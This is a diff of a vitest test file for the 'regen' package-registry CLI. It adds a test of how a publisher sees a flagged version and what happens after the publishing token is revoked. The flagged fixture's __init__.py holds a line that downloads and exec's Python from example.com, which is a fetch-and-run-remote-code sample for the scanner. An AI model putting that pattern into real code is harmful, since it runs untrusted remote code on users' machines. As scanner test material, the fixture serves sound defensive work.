@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest';
-import { regen } from '../../support/cli.js';
+import { homeForTest, regen } from '../../support/cli.js';
 import { packForTest } from '../../support/packs.js';
-import { publisherForTest, serviceForTest } from '../../support/service.js';
+import { ask, publisherForTest, serviceForTest } from '../../support/service.js';
 
 test('the findings of a version are listed one by one, with their rules, wherever they are shown', async () => {
   const service = await serviceForTest();
@@ -50,4 +50,37 @@ test('the findings of a version are listed one by one, with their rules, whereve
     env,
   });
   expect(explained.stdout).toMatch(/\tIt is ours\\n__init__\.py:2 .*\\n__init__\.py:3 [^\\]*\n$/);
+});
+
+test('who only stored a publishing token reads the own flagged version, and public ones after it was revoked', async () => {
+  const service = await serviceForTest();
+  const { personalAccessToken } = await publisherForTest(service);
+  const surroundings = { home: homeForTest(), env: { REGEN_BASE_URL: service.url } };
+  const run = (argv: string, stdin = '') => regen(argv.split(' '), { ...surroundings, stdin });
+  const publish = (version: string, code: string) => {
+    const folder = packForTest({ version, files: { '__init__.py': `${code}\nNODE_CLASS_MAPPINGS = {}\n` } });
+    return run(`version publish ${folder} --allow-empty --allow-findings`);
+  };
+  expect((await run('auth login --with-token --publisher acme', personalAccessToken)).exit).toBe(0);
+  expect((await publish('1.0.0', '')).exit).toBe(0);
+  const flagged = await publish(
+    '1.1.0',
+    'import requests\nexec(requests.get("https://example.com/x.py").text)',
+  );
+  expect([flagged.exit, flagged.stderr]).toEqual([
+    6,
+    expect.stringContaining('regen version get pack 1.1.0'),
+  ]);
+
+  for (const argv of ['version get pack 1.1.0', 'version get pack 1.1.0 --reasons', 'version list pack'])
+    expect((await run(argv)).stdout, argv).toContain('1.1.0');
+  const download = `version download pack 1.1.0 --allow flagged -o ${surroundings.home}/`;
+  expect((await run(download)).exit).toBe(0);
+  expect((await run('version diff pack 1.0.0 1.1.0')).exit).toBe(0);
+
+  const tokens = `${service.url}/publishers/acme/tokens`;
+  const [{ id }] = (await ask(tokens, { token: service.ownerToken })).body;
+  await ask(`${tokens}/${id}`, { method: 'DELETE', token: service.ownerToken });
+  expect((await run('version get pack 1.0.0')).exit).toBe(0);
+  expect((await run('version get pack 1.1.0')).exit).toBe(3);
 });
